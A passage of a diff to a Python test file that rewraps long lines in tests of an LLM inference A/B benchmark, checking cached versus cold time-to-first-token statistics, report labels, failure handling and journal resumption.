     assert [p.runs_done for p in progress] == list(range(9)) and progress[-1].runs_total == 9
@@ -820,7 +1061,9 @@ def test_reuse_cache_keeps_cached_ttfts_out_of_the_cold_means(suite_path, tmp_pa
     cached = [run["ttft_s"] for run in baselines if run["served_by"] == "cached_full"]
     summary = data["summary"]["baseline"]
     assert summary["mean_ttft_s"] == pytest.approx(sum(cold) / len(cold)) == pytest.approx(20.0)
-    assert summary["n_cached"] == 1 and summary["cached_mean_ttft_s"] == pytest.approx(sum(cached) / len(cached))
+    assert summary["n_cached"] == 1 and summary["cached_mean_ttft_s"] == pytest.approx(
+        sum(cached) / len(cached)
+    )
     assert summary["accuracy"] == 1.0 and summary["n_scored"] == 2  # accuracy counts the cached run too
     low = data["summary"]["spec"]["0.1"]
     assert low["n_cached"] == 0 and low["cached_mean_ttft_s"] is None
@@ -830,13 +1073,23 @@ def test_reuse_cache_keeps_cached_ttfts_out_of_the_cold_means(suite_path, tmp_pa
     assert data["environment"]["reuse_cache"] is True
     rows = list(csv.DictReader(table.open(encoding="utf-8")))
     assert [(r["case_id"], r["served_by"], r["ttft_kind"]) for r in rows if r["run"] == "baseline"] == [
-        ("grid", "cold_full", "cold"), ("etchant", "cached_full", "cached"), ("summary", "cold_full", "cold")]
+        ("grid", "cold_full", "cold"),
+        ("etchant", "cached_full", "cached"),
+        ("summary", "cold_full", "cold"),
+    ]
 
 
-def test_reuse_cache_labels_cached_ttfts_in_the_table_progress_and_html(suite_path, tmp_path, fake_loader, capsys):
+def test_reuse_cache_labels_cached_ttfts_in_the_table_progress_and_html(
+    suite_path, tmp_path, fake_loader, capsys
+):
     html = tmp_path / "ab.html"
-    assert cmd_ab(parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(html),
-                           "--reuse-cache"), NEVER) == 0
+    assert (
+        cmd_ab(
+            parse_ab("--suite", str(suite_path), "--keep", "0.1,0.5", "--report", str(html), "--reuse-cache"),
+            NEVER,
+        )
+        == 0
+    )
     out, err = capsys.readouterr()
     assert "baseline: TTFT 2.00 s (cached: full prefill from the cache)" in err
     assert "baseline: TTFT 10.00 s\n" in err  # a cold run carries no label
@@ -849,8 +1102,9 @@ def test_reuse_cache_labels_cached_ttfts_in_the_table_progress_and_html(suite_pa
 
 
 def test_reuse_cache_goes_on_after_a_case_fails_and_its_follow_up_runs_cold(suite_path):
-    events = list(run_suite(FakeEngine(fail_on="grid?"), load_suite(suite_path), KEEPS, RunSettings(),
-                            reuse_cache=True))
+    events = list(
+        run_suite(FakeEngine(fail_on="grid?"), load_suite(suite_path), KEEPS, RunSettings(), reuse_cache=True)
+    )
     report = events[-1].report
     grid, etchant, summary = report.cases
     assert grid.failed and "40000 tokens" in grid.error
@@ -897,9 +1151,12 @@ def test_a_journal_written_before_a_setting_existed_resumes_at_its_default(suite
         read_journal(path, later)
 
 
-@pytest.mark.parametrize(("name", "before"), [("named_files", "off"), ("score_question", False),
-                                            ("question_words", 0.0)])
-def test_a_journal_written_before_a_setting_resumes_only_as_the_code_before_it_ran(suite_path, tmp_path, name, before):
+@pytest.mark.parametrize(
+    ("name", "before"), [("named_files", "off"), ("score_question", False), ("question_words", 0.0)]
+)
+def test_a_journal_written_before_a_setting_resumes_only_as_the_code_before_it_ran(
+    suite_path, tmp_path, name, before
+):
     # Before named_files no file was kept first, before score_question the look-ahead alone scored, before
     # question_words the draft alone ranked the chunks: those
     # cases ran as the old value does, not as the setting's default.
